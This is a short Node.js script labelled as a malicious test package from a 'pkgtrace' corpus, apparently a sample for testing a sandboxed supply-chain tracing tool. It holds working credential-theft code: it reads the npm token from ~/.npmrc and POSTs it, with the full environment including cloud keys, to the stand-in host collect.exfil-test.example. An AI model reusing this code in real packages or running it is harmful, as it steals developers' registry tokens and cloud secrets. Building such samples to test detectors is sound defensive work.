'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// Reads the npm token from ~/.npmrc, resolves collect.exfil-test.example and
// POSTs the token and the whole environment (NPM_TOKEN, cloud keys, ...) as
// JSON over HTTPS to https://collect.exfil-test.example/upload. Prints
// `net-https-post: step N ...` at each step reached, and the status it got;
// exits 0 whatever fails, after 5 s at the latest.
const dns = require('dns');
const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');

const HOST = 'collect.exfil-test.example';
const say = (msg) => console.log(`net-https-post: ${msg}`);
const errText = (e) => (e && (e.code || e.message)) || String(e);
setTimeout(() => { say('gave up after 5 s'); process.exit(0); }, 5000).unref();
process.on('uncaughtException', (e) => { say(`error ${errText(e)}`); process.exit(0); });

let npmrc = '';
try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) { /* none */ }
const token = (/_authToken\s*=\s*(\S+)/.exec(npmrc) || [])[1] || '';
say(`step 1 read ~/.npmrc (token ${token ? 'found' : 'missing'})`);

dns.lookup(HOST, (err, address) => {
  if (err) { say(`step 2 lookup of ${HOST} failed: ${errText(err)}; stopping`); process.exit(0); }
  say(`step 2 resolved ${HOST} to ${address}`);
  // The token first, so that it is in the first bytes a sink keeps.
  const body = JSON.stringify({ npm: token, host: os.hostname(), env: process.env });
  const req = https.request({
    hostname: HOST, port: 443, path: '/upload', method: 'POST', timeout: 2500,
    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
  }, (res) => {
    say(`step 3 POST https://${HOST}/upload: status ${res.statusCode}`);
    res.resume();
    res.on('end', () => process.exit(0));
    res.on('error', () => process.exit(0));
  });
  req.on('error', (e) => { say(`step 3 POST https://${HOST}/upload failed: ${errText(e)}`); process.exit(0); });
  req.on('timeout', () => req.destroy(new Error('timeout')));
  req.end(body);
});
